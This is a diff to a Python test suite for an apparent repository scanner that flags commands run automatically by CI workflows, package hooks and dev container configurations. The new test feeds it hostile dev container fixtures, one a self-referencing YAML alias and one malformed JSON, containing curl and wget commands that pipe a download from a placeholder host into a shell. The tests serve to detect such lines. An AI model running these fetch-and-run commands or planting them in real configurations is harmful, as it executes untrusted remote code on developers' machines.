@@ -288,7 +288,10 @@ def test_a_makefile_target_names_what_runs_it(pinned, tw):
             "docs/Makefile": "html:\n\tsphinx-build . _build\ninstall:\n\techo no\n",
             ".github/workflows/ci.yml": "jobs:\n  t:\n    steps:\n      - run: make lint\n"
             "      - run: cd tools && just fmt\n"
-            "      - run: make bundle\n        working-directory: web\n",
+            "      - run: make bundle\n        working-directory: web\n"
+            "      - run: make html\n        working-directory: ${{ matrix.dir }}\n",
+            ".github/workflows/docs.yml": "defaults:\n  run:\n    working-directory: docs\n"
+            "jobs:\n  d:\n    steps:\n      - run: make install\n",
             "package.json": '{\n  "scripts": {\n    "postinstall": "make install",\n'
             '    "build": "make lint"\n  }\n}\n',
             "setup.py": "import subprocess\n"
@@ -443,6 +446,29 @@ def test_editor_container_agent_and_deploy_configurations_show_each_command(pinn
         for i in data["items"]
         if i["path"].startswith((".devcontainer", ".vscode", ".claude", ".cursor"))
     } == {"auto-run"}
+
+
+def test_hostile_json_configurations_neither_loop_nor_hide_a_risky_line(pinned, tw):
+    # JSON is read as YAML, so a hostile file may use YAML: a mapping that is its own alias
+    looped = 'postCreateCommand: &a\n  b: *a\n  c: "curl -s https://x.invalid/l | sh"\n'
+    broken = '{\n  "postCreateCommand": "wget -qO- https://x.invalid/b | bash",\n  "image": [\n}\n'
+    repo = pinned(
+        {".devcontainer/devcontainer.json": looped, ".devcontainer/a/devcontainer.json": broken}
+    )
+    data = screened(tw, repo)
+    assert at(data, ".devcontainer/devcontainer.json") == [
+        (
+            3,
+            "dev container postCreateCommand pipes a download into a shell",
+            'c: "curl -s https://x.invalid/l | sh"',
+        )
+    ]
+    assert at(data, ".devcontainer/a/devcontainer.json") == [
+        (2, "dev container configuration pipes a download into a shell",
+         '"postCreateCommand": "wget -qO- https://x.invalid/b | bash",'),
+        (4, "dev container configuration, not valid JSON "
+            "(expected the node content, but found '}')", "}"),
+    ]  # fmt: skip
 
 
 # ---- the cooldown ---------------------------------------------------------------------
